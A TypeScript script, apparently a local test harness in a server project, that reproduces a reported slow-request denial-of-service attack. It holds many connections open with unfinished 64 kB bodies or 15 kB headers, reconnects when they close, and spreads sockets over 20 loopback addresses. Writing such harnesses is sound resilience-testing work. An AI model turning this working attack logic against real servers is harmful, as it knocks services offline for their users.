import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'
import { messageHead } from '../measuring/message-bytes.ts'

/**
 * A program that keeps so many connections to a server open, for so many seconds, each of which begins something and falls silent;
 * one that is ended is opened anew after a while: `attack.ts URL KIND COUNT SECONDS`.
 */

const [, , url = '', kind = 'body', count = '0', seconds = '0'] = process.argv

/** What the reported attack sent: all but the last of 65,536 bytes, or 15 kB of a head. */
const bytes =
  kind === 'body'
    ? `${messageHead(65_536)}${'x'.repeat(65_009)}`
    : `GET / HTTP/1.1\r\nHost: x\r\nX-Long: ${'x'.repeat(15_000)}`

/** Ports of one address run out; and strangers come from many. */
const addresses = Array.from({ length: 20 }, (_, number) => `127.0.0.${number + 2}`)
const againAfterMs = 5000

const { hostname, port, protocol } = new URL(url)
const end = performance.now() + Number(seconds) * 1000

for (let number = 0; number < Number(count); number++) {
  open(number)
  // As fast as one program can, without drowning in its own connections.
  if (number % 50 === 0) await pause(5)
}
setTimeout(() => process.exit(0), Math.max(0, end - performance.now()))

function open(number: number) {
  const options = {
    host: hostname,
    port: Number(port),
    localAddress: addresses[number % addresses.length],
  }
  const socket =
    protocol === 'https:' ? connectTls({ ...options, rejectUnauthorized: false }) : connect(options)
  socket.on('error', () => {})
  socket.on('close', () => setTimeout(() => open(number), againAfterMs))
  socket.resume()
  socket.write(bytes)
}
